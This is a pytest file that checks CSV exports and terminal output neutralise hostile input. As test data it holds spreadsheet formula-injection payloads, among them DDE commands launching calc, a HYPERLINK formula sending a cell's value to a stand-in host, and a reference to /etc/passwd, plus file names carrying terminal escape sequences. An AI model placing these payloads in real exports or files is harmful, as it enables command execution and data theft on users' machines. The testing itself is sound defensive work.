"""What comes from strangers and reaches a terminal or a spreadsheet does nothing there."""

import csv
import io
import os
import pty
from pathlib import Path

import pytest

from db.export.text import csv_text, no_formula
from db.names.uris import file_uri
from tagonce.output import ui


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://host/?x="&A1,"cat")',
        "=cmd|'/c calc'!A0",
        "@SUM(1+1)*cmd|' /c calc'!A0",
        "+1+SUM(1)",
        "\t=A(1)",
        "='file:///etc/passwd'#$passwd.A1",
        "=[book.xlsx]Sheet1$A1",
        "\uff1dHYPERLINK(1)",
    ],
)
def test_a_formula_is_text_in_a_table(text: str) -> None:
    """The way of OWASP's page on CSV injection; a field in quotes is run as well."""
    assert next(csv.reader(io.StringIO(csv_text(text)))) == ["'" + text]


@pytest.mark.parametrize("text", ["=_=", "@_@", "+_+", "-_-", "=3", "fate/stay_night", "a=b(c)", "s3://b/=A(1)", ""])
def test_tags_that_look_like_one_stay_as_they_are(text: str) -> None:
    assert no_formula(text) == text


def test_names_do_not_command_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    name = os.fsdecode(b"a\x1b]0;owned\x07\n[bold]\xff \xe2\x80\xae.jpg")
    ui.output.print(ui.display_name(file_uri(f"/p/{name}")))
    assert capsys.readouterr().out == "/p/a?]0;owned??[bold]? ?.jpg\n"


def test_a_path_is_printed_as_it_is_for_programs_and_printable_for_people(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    from db.search.execute import Hit
    from tagonce.commands import search

    raw = b"/p/\x1b[2J\xff.jpg"
    hit = Hit.__new__(Hit)
    object.__setattr__(hit, "uri", file_uri(os.fsdecode(raw)))
    with (tmp_path / "out").open("w+b") as file:
        monkeypatch.setattr("sys.stdout", io.TextIOWrapper(file, write_through=True))
        search._print_path(hit, b"\n")
        file.seek(0)
        assert file.read() == raw + b"\n"
    leader, follower = pty.openpty()
    with os.fdopen(follower, "w") as terminal:
        monkeypatch.setattr("sys.stdout", terminal)
        search._print_path(hit, b"\n")
        terminal.flush()
        assert os.read(leader, 100) == b"/p/?[2J?.jpg\r\n"
    os.close(leader)
